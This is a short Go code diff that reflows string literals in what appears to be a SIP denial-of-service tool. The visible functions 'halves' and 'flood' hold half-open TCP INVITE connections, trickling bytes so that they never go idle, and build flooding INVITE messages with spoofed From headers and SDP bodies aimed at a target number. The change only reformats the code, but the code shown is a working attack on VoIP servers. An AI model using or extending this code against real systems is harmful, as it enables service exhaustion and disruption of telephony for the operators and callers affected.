@@ -91,7 +91,8 @@ func halves(to netip.AddrPort, until time.Time) {
 					continue
 				}
 				opened.Add(1)
-				_, _ = fmt.Fprintf(conn, "INVITE sip:+15075785607@%v SIP/2.0\r\nVia: SIP/2.0/TCP half;branch=z9hG4bK%d\r\nX-Half: ", to, i)
+				_, _ = fmt.Fprintf(conn, "INVITE sip:+15075785607@%v SIP/2.0\r\n"+
+					"Via: SIP/2.0/TCP half;branch=z9hG4bK%d\r\nX-Half: ", to, i)
 				_ = conn.SetReadDeadline(until)
 				for err == nil { // a byte now and then keeps it from being idle
 					_ = conn.SetReadDeadline(time.Now().Add(time.Second))
@@ -186,8 +187,9 @@ func flood(to netip.AddrPort, until time.Time, rate int) error {
 }
 
 func invite(to netip.AddrPort, from netip.Addr, n int) string {
-	return fmt.Sprintf("INVITE sip:+15075785607@%[1]v SIP/2.0\r\nVia: SIP/2.0/UDP %[2]v:9;branch=z9hG4bKflood%[3]d;rport\r\n"+
-		"From: <sip:+15075550100@%[2]v>;tag=%[3]d\r\nTo: <sip:+15075785607@%[1]v>\r\nCall-ID: flood-%[3]d\r\nCSeq: 1 INVITE\r\n"+
+	return fmt.Sprintf("INVITE sip:+15075785607@%[1]v SIP/2.0\r\n"+
+		"Via: SIP/2.0/UDP %[2]v:9;branch=z9hG4bKflood%[3]d;rport\r\nFrom: <sip:+15075550100@%[2]v>;tag=%[3]d\r\n"+
+		"To: <sip:+15075785607@%[1]v>\r\nCall-ID: flood-%[3]d\r\nCSeq: 1 INVITE\r\n"+
 		"Contact: <sip:flood@%[2]v:9>\r\nMax-Forwards: 70\r\n%[4]s",
 		to, from, n, sip.WithBody(sip.Description(netip.AddrPortFrom(from, 30000))))
 }
